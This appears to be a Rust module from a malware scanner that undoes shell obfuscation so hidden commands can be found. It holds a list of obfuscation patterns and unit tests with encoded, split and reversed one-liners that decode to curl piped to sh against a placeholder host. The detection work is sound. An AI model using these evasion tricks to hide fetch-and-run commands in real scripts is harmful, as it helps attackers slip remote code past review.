//! What a shell makes of a script that is written so that nobody reads it: quotes in words, variables in pieces, pipes that
//! decode.
//!
//! The script is not run and hardly parsed: words are put together as a shell would, line by line, with the values that the
//! script itself gave its variables. The result is a stage only if it holds more commands than the script did.
//!
//! - Sees: `c''url`, `c\url`, `$'\x63url'`, `${IFS}`, `a=cu;b=rl;$a$b`, `${a:0:2}`, `{curl,-s,x}`, `wh$@oami`; what `echo` and
//!   `printf` hand to `base64 -d`, `rev`, `tr`, `xxd -r -p`, and here strings.
//! - Misses: values that come from commands, arrays, arithmetic; other conditions of a variable.
//! - Source: POSIX.1-2024, Shell Command Language; bash(1).

use model::FileKind;

use super::{Decoder, Stages, shell_pipe, shell_words, worth};
use crate::detectors::Sample;

/// Scripts of a shell: always, because a quote in a word is too short to look for.
pub(super) const SCRIPT: Decoder =
    Decoder { id: "shell", kinds: &[FileKind::Script], literals: &[], decode: decode_script };

/// Other texts, which a shell may run as well: where one of its tricks is that is long enough to look for.
pub(super) const LINES: Decoder = Decoder {
    id: "shell-lines",
    kinds: &[FileKind::Text],
    literals: &[
        "${ifs",
        "$ifs",
        "base64 -d",
        "base64 --d",
        "base64 -di",
        "|base64",
        "| base64",
        "xxd -r",
        "xxd -p -r",
        "xxd -ps -r",
        "|rev",
        "| rev",
        "|tr ",
        "| tr ",
        "$'\\x",
        "$'\\1",
        "$'\\0",
        "openssl base64",
        "openssl enc -",
        "eval $",
        "eval \"$",
        "eval `",
        "eval $(",
        "sh -c \"$",
        "printf '\\",
        "printf \"\\",
        "<<< ",
        "<<<$",
        "<<<\"",
        "<<<'",
    ],
    decode: decode_lines,
};

/// Longer scripts are read so far: those are archives that unpack themselves.
const SCRIPT_BYTES_MAX: usize = 1 << 20;
/// How far around a trick a text without `#!` is read.
const NEAR_BYTES: usize = 64 << 10;

fn decode_script(sample: &Sample<'_>, stages: &mut Stages<'_>) {
    let first = sample.bytes.split(|&byte| byte == b'\n').next().unwrap_or_default();
    let is_shell = first.starts_with(b"#!") && first.windows(2).any(|two| two == b"sh");
    if is_shell {
        unfold(sample.bytes.get(..SCRIPT_BYTES_MAX).unwrap_or(sample.bytes), 0, stages);
    }
}

fn decode_lines(sample: &Sample<'_>, stages: &mut Stages<'_>) {
    // A script with `#!` was read as one.
    if sample.kind == FileKind::Script {
        return;
    }
    let mut done = 0;
    for hit in sample.hits.iter().filter(|hit| hit.offset >= SCRIPT_BYTES_MAX || sample.kind != FileKind::Script) {
        if hit.offset < done {
            continue;
        }
        let (start, text) = sample.around(hit.offset, NEAR_BYTES.min(hit.offset - done), NEAR_BYTES);
        unfold(text, start, stages);
        done = start + text.len();
    }
}

/// Gives what a shell makes of the text, and what its pipes give.
fn unfold(text: &[u8], start: usize, stages: &mut Stages<'_>) {
    let normal = shell_words::normalised(text, stages.room());
    for (offset, how, bytes) in shell_pipe::results(&normal, stages.room()) {
        // The offset is one in the normalised text: as near as it gets.
        stages.keep(how, start + offset.min(text.len()), bytes);
    }
    if worth::commands(&normal) > worth::commands(text) {
        stages.keep("shell", start, normal);
    }
}

#[cfg(test)]
mod tests {
    use super::{LINES, SCRIPT};
    use crate::decode::testing::{check, run};

    #[test]
    fn tricks_are_undone() {
        for (trick, plain) in [
            (r"c''ur\l -s h'tt'p://x.invalid/a", "curl -s http://x.invalid/a"),
            (r#"w"g"et http://x.invalid"#, "wget http://x.invalid"),
            ("curl${IFS}-s${IFS}ht$@tp://x.invalid", "curl -s http://x.invalid"),
            ("a=cu;b=rl;c=http:;$a$b $c//x.invalid", "a=cu;b=rl;c=http:;curl http://x.invalid"),
            ("a='wg'\nb=\"et\"\n${a}${b} x", "a='wg'\nb=\"et\"\nwget x"),
            (r"$'\x63\165rl' x", "curl x"),
            ("{curl,-s,http:/''/x.invalid}", "curl -s http://x.invalid"),
            ("x=xxcurlyy; ${x:2:4} -s h", "x=xxcurlyy; curl -s h"),
            ("cu\\\nrl x", "curl x"),
        ] {
            let made = run(&SCRIPT, format!("#!/bin/bash\n{trick}\n").as_bytes());
            let made: Vec<_> =
                made.iter().map(|(word, bytes)| (word.as_str(), String::from_utf8_lossy(bytes))).collect();
            assert_eq!(
                made.last().map(|(word, text)| (*word, text.as_ref())),
                Some(("shell@0", format!("#!/bin/bash\n{plain}\n").as_str())),
                "{trick}"
            );
        }
    }

    #[test]
    fn pipes_that_decode_are_followed() {
        let plain = "curl x.invalid|sh";
        for (pipe, how) in [
            ("echo Y3VybCB4LmludmFsaWR8c2g= | base64 -d | sh", "base64"),
            ("base64 --decode <<< Y3VybCB4LmludmFsaWR8c2g= | sh", "base64"),
            ("eval \"$(echo 'hs|dilavni.x lruc' | rev)\"", "rev"),
            ("echo 6375726c20782e696e76616c69647c7368 | xxd -r -p | bash", "xxd"),
            ("echo 'phey k.vainyvq|fu' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh", "tr"),
            ("echo 'phey k.vainyvq|fu' | tr a-z n-za-m | sh", "tr"),
            ("printf '\\143\\165\\162\\154 x.invalid|sh' | sh", "printf"),
            ("x=Y3VybCB4Lmlu;y=dmFsaWR8c2g=; echo $x$y|base64 -d|sh", "base64"),
            ("echo '=g2c8RWasFmdulmL4BCbyV3Y' | rev | base64 -d | sh", "rev+base64"),
        ] {
            let made = run(&LINES, pipe.as_bytes());
            let found = made.iter().find(|(_, bytes)| bytes == plain.as_bytes());
            assert_eq!(found.and_then(|(word, _)| word.split('@').next()), Some(how), "{pipe}: {made:?}");
        }
    }

    #[test]
    fn plain_scripts_give_nothing() {
        let script = "#!/bin/sh\nset -e\nif [ \"$1\" = 'start' ]; then\n  exec nginx -g \"daemon off;\"\nfi\necho \"it's $HOME\" | tr a-z A-Z\n";
        check(&SCRIPT, script, &[]);
        check(&LINES, script, &[]);
        check(&SCRIPT, "#!/usr/bin/python3\nx = 'cu' 'rl'\n", &[]);
    }
}
